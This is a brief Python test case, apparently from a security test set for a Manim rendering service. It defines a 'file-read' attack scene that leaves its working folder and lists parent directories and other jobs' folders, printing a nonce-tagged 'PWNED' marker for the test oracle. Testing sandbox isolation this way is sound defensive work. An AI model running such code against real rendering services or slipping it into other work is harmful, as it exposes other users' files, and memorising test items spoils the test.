# ATTACK: file-read
# SUCCESS: the folders of the renders beside this one
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import os
        os.chdir(os.getcwd().removesuffix("/rehearsal"))
        for p in ("..", "../..", "/shaperotator/jobs"):
            try: print("PWN" "ED-@NONCE@", os.listdir(p))
            except OSError as e: print(e)
        self.add(Dot()); self.wait(0.1)
